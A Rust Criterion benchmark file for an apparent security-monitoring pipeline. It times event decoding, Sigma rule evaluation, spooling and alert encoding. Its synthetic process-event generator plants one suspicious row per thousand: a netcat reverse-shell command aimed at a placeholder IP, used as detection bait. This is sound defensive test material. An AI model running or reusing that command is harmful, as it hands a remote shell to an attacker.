//! Criterion micro-benchmarks of the hot pieces: frame decoding (NDJSON and Arrow IPC), rule
//! evaluation of one batch with the standard pack, spool append + read + remove, and each
//! alert encoder. `cargo bench -p vedette-bench --bench hot` (docs/benchmarks.md).

use std::sync::Arc;

use criterion::{BatchSize, Criterion, Throughput, criterion_group, criterion_main};
use vedette_pipelines::compile::{Compiler, TableRules};
use vedette_pipelines::rule::Pack;
use vedette_schemas::decode::{Identity, decode_frame};
use vedette_schemas::frame::{DataFrame, Encoding};
use vedette_schemas::tables::Catalog;

const ID: Identity<'static> = Identity { sensor_id: "bench", tenant: "bench", default_host: None, trust_rows: false };

/// `n` process events of the bench's everyday mix, one in 1,000 suspicious, as NDJSON lines.
fn ndjson(n: usize) -> String {
    const PROGRAMS: &[(&str, &str)] = &[
        ("/usr/bin/python3", "python3 /opt/app/worker.py --job {n} --queue default"),
        ("/usr/bin/bash", "bash -c 'cd /var/lib/app && ./run.sh {n}'"),
        ("/usr/bin/git", "git fetch origin refs/heads/main --depth {n}"),
        ("/usr/bin/java", "java -Xmx2g -jar /opt/kafka/libs/app.jar --id {n}"),
        ("/usr/bin/tar", "tar czf /backup/{n}.tgz /srv/data"),
    ];
    (0..n)
        .map(|i| {
            let (exe, cmd) = if i % 1000 == 500 {
                ("/usr/bin/nc".to_string(), "nc -e /bin/sh 198.51.100.7 4444".to_string())
            } else {
                let (e, c) = PROGRAMS[i % PROGRAMS.len()];
                (e.to_string(), c.replace("{n}", &i.to_string()))
            };
            let row = serde_json::json!({"ts": 1_764_000_000_000_000i64 + i as i64, "host": "h1", "event_type": "start",
                "pid": i, "ppid": 1, "uid": 1000, "user": "app", "exe": exe, "cmdline": cmd, "cwd": "/home/app",
                "parent_exe": "/usr/bin/bash", "parent_cmdline": "bash"});
            format!("{row}\n")
        })
        .collect()
}

fn decode(c: &mut Criterion) {
    let catalog = Catalog::builtin();
    let table = catalog.get("process_events").expect("built-in table");
    let text = ndjson(200);
    let frame = DataFrame { seq: 1, table: "process_events", encoding: Encoding::Ndjson, payload: text.as_bytes() };
    let batch = decode_frame(table, &frame, &ID, usize::MAX).expect("decodes").batch.expect("rows");
    // The same rows as an Arrow IPC stream, sensor-side columns only.
    let keep: Vec<usize> = (0..batch.num_columns())
        .filter(|i| {
            let f = batch.schema().field(*i).name().clone();
            !matches!(f.as_str(), "sensor_id" | "tenant") && !f.starts_with("__")
        })
        .collect();
    let sensor_side = batch.project(&keep).expect("projection");
    let mut ipc = Vec::new();
    {
        let mut w = arrow::ipc::writer::StreamWriter::try_new(&mut ipc, &sensor_side.schema()).expect("writer");
        w.write(&sensor_side).expect("write");
        w.finish().expect("finish");
    }
    let mut g = c.benchmark_group("decode");
    g.throughput(Throughput::Elements(200));
    g.bench_function("ndjson_200_rows", |b| b.iter(|| decode_frame(table, &frame, &ID, usize::MAX).expect("decodes")));
    let arrow_frame = DataFrame { seq: 1, table: "process_events", encoding: Encoding::Arrow, payload: &ipc };
    g.bench_function("arrow_200_rows", |b| {
        b.iter(|| decode_frame(table, &arrow_frame, &ID, usize::MAX).expect("decodes"))
    });
    g.finish();
}

fn rules(c: &mut Criterion) {
    let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).build().expect("runtime");
    let catalog = Arc::new(Catalog::builtin());
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/packs/sigma-linux.yaml");
    let pack = Pack::from_yaml(path, &std::fs::read_to_string(path).expect("standard pack")).expect("pack");
    let compiler = Compiler::new(Arc::clone(&catalog)).expect("compiler");
    let compiled =
        rt.block_on(compiler.compile_pack(&pack)).expect("compiles").remove("process_events").expect("rules");
    let table = catalog.get("process_events").expect("built-in table");
    let text = ndjson(8192);
    let frame = DataFrame { seq: 1, table: "process_events", encoding: Encoding::Ndjson, payload: text.as_bytes() };
    let batch = decode_frame(table, &frame, &ID, usize::MAX).expect("decodes").batch.expect("rows");
    let now = chrono::Utc::now();
    let mut g = c.benchmark_group("rules");
    g.throughput(Throughput::Elements(8192));
    for (name, threads) in [("sigma_pack_8192_rows_2_tasks", 2), ("sigma_pack_8192_rows_1_task", 1)] {
        let rules = TableRules::new(&compiler, "process_events", compiled.clone()).with_parallelism(threads);
        g.bench_function(name, |b| b.iter(|| rt.block_on(rules.evaluate(&batch, now))));
    }
    g.finish();
}

fn spool(c: &mut Criterion) {
    let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).build().expect("runtime");
    let dir = tempfile::tempdir().expect("temp dir");
    let db = vedette_engine::engine::state_config(&dir.path().join("state")).open().expect("sled");
    let text = "[[sinks]]\nname = \"bench\"\ntype = \"file\"\npath = \"out.jsonl\"\nspool = { max_bytes = \"8GiB\" }\n";
    let config = vedette_config::Config::from_toml_str(text).expect("config").sinks.remove(0);
    let handle = vedette_actors::sinks::open_sink(&db, config).expect("sink");
    let alert = serde_json::to_vec(&vedette_pipelines::formats::sample_alert()).expect("json");
    let records: Vec<Vec<u8>> = (0..100).map(|_| alert.clone()).collect();
    let mut g = c.benchmark_group("spool");
    g.throughput(Throughput::Elements(100));
    g.bench_function("append_read_remove_100_alerts", |b| {
        b.iter(|| {
            rt.block_on(handle.spool.append(&records)).expect("append");
            let read = handle.spool.read(0, 100, u64::MAX).expect("read");
            let seqs: Vec<u64> = read.iter().map(|r| r.0).collect();
            handle.spool.remove(&seqs).expect("remove");
        })
    });
    g.finish();
}

fn encoders(c: &mut Criterion) {
    use vedette_config::Format;
    let alert = vedette_pipelines::formats::sample_alert();
    let mut g = c.benchmark_group("encode");
    g.throughput(Throughput::Elements(1));
    for (name, format) in [("json", Format::Json), ("cef", Format::Cef), ("stix", Format::Stix), ("ocsf", Format::Ocsf)]
    {
        g.bench_function(name, |b| {
            b.iter_batched(|| &alert, |a| vedette_pipelines::formats::encode(format, a), BatchSize::SmallInput)
        });
    }
    g.finish();
}

criterion_group!(hot, decode, rules, spool, encoders);
criterion_main!(hot);
